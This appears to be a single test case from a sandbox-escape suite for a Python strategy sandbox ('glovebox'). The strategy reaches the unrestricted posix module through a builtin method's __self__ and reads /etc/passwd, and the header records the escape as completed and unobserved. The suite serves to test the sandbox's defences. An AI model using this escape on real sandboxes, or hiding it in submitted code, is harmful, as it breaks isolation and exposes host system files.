# id: L45
# family: language
# goal: find the original module behind a builtin method's __self__
# finding: PY103 PY105 PY306
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


import posix


def attack(ctx, bar):
    module = posix.stat.__self__
    return module.read(module.open("/etc/passwd", 0), 20)


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
